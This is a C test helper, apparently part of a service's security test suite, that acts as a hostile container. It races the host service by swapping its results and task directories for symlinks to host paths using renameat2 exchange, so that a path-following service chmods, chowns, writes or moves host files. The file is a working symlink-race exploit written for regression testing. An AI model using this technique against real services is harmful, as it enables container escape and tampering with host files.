/* SPDX-License-Identifier: MIT */
/*
 * ipc_race_attacker - what a hostile container does to its own group
 * directory (issue 9 §1), for test_service_ipc_race.sh. Run it as the
 * unprivileged owner of the group directory (the test drops it to uid 1000).
 *
 * While it feeds status tasks it swaps, with renameat2(RENAME_EXCHANGE),
 * the clawsec_results/ directory the service has just created for a symlink
 * to a host file or directory, and clawsec_tasks/ for a symlink to a host
 * directory holding task-like files. A service that operates on those names
 * by path (following links) then chmods, chowns, writes or moves host files.
 *
 * usage: ipc_race_attacker GROUP_DIR HOST_FILE HOST_DIR HOST_TASKS_DIR SECONDS
 * Prints "tasks=N swaps=N" (swaps: exchanges that hit a directory the
 * service created), exits 0; 2 on a usage or setup error.
 */
#include <errno.h>
#include <fcntl.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/stat.h>
#include <time.h>
#include <unistd.h>

static double now_s(void)
{
	struct timespec ts;

	clock_gettime(CLOCK_MONOTONIC, &ts);
	return (double)ts.tv_sec + (double)ts.tv_nsec / 1e9;
}

static void iso_now(char *out, size_t len)
{
	struct timespec ts;
	struct tm tm;

	clock_gettime(CLOCK_REALTIME, &ts);
	gmtime_r(&ts.tv_sec, &tm);
	snprintf(out, len, "%04d-%02d-%02dT%02d:%02d:%02d.%03ldZ", tm.tm_year + 1900, tm.tm_mon + 1,
		 tm.tm_mday, tm.tm_hour, tm.tm_min, tm.tm_sec, ts.tv_nsec / 1000000);
}

/* A status task, written the way the MCP server does (.tmp, then rename). */
static int write_task(int gfd, unsigned long n)
{
	char name[96], tmp[112], body[256], ts[64];
	int fd, len;

	iso_now(ts, sizeof(ts));
	snprintf(name, sizeof(name), "clawsec_tasks/%lu-race%lu.json", (unsigned long)time(NULL),
		 n);
	snprintf(tmp, sizeof(tmp), "%s.tmp", name);
	len = snprintf(body, sizeof(body),
		       "{\"type\":\"clawsec_traffic_status\",\"requestId\":\"race-%lu\","
		       "\"groupFolder\":\"g\",\"timestamp\":\"%s\",\"timeout_ms\":600000}",
		       n, ts);
	fd = openat(gfd, tmp, O_WRONLY | O_CREAT | O_EXCL | O_NOFOLLOW, 0644);
	if (fd < 0)
		return -1;
	if (write(fd, body, (size_t)len) != len) {
		close(fd);
		return -1;
	}
	close(fd);
	return renameat(gfd, tmp, gfd, name);
}

/*
 * Exchange `name` with the symlink `link` -> target, trying up to `tries`
 * times; then either exchange back, or move the real directory aside so
 * that the service has to create it again. 1 when an exchange hit.
 */
static int swap(int gfd, const char *name, const char *link, const char *target, int tries,
		unsigned long *junk, int put_back)
{
	char old[64];
	int i;

	unlinkat(gfd, link, 0);
	if (symlinkat(target, gfd, link))
		return -1;
	for (i = 0; i < tries && renameat2(gfd, name, gfd, link, RENAME_EXCHANGE); i++)
		;
	if (i == tries)
		return 0;
	usleep(200); /* the window in which the service uses the name */
	if (put_back)
		return renameat2(gfd, name, gfd, link, RENAME_EXCHANGE) ? -1 : 1;
	unlinkat(gfd, name, 0);
	snprintf(old, sizeof(old), "old.%lu", (*junk)++);
	renameat(gfd, link, gfd, old);
	return 1;
}

int main(int argc, char **argv)
{
	unsigned long tasks = 0, swaps = 0, junk = 0;
	double end;
	int gfd;

	if (argc != 6) {
		fprintf(stderr, "usage: %s GROUP_DIR HOST_FILE HOST_DIR HOST_TASKS_DIR SECONDS\n",
			argv[0]);
		return 2;
	}
	gfd = open(argv[1], O_RDONLY | O_DIRECTORY);
	if (gfd < 0 || (mkdirat(gfd, "clawsec_tasks", 0755) && errno != EEXIST)) {
		perror(argv[1]);
		return 2;
	}
	end = now_s() + atof(argv[5]);
	while (now_s() < end) {
		if (!write_task(gfd, tasks))
			tasks++;
		/* Spin on the results directory until the service has made it. */
		if (swap(gfd, "clawsec_results", "evil", argv[2 + tasks % 2], 20000, &junk, 0) > 0)
			swaps++;
		if (tasks % 8 == 0 &&
		    swap(gfd, "clawsec_tasks", "evil_tasks", argv[4], 1, &junk, 1) > 0)
			swaps++;
	}
	printf("tasks=%lu swaps=%lu\n", tasks, swaps);
	return 0;
}
